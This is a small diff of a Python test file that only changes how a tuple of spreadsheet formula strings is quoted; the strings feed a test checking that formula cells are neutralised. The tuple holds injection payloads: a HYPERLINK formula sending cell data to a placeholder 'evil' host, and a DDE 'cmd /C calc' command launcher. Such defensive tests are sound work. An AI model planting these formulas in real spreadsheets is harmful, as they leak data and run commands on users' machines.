@@ -268,7 +268,7 @@ def test_a_given_report_is_published_as_it_is(dlm: examples.Example) -> None:
     assert given.files() == computed.files()
 
 
-FORMULAS = ("=HYPERLINK(\"http://evil/?\"&A1)", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-1+2", "'=x")
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-1+2", "'=x")
 
 
 def test_formula_cells_are_neutralised_and_read_back_exactly() -> None:
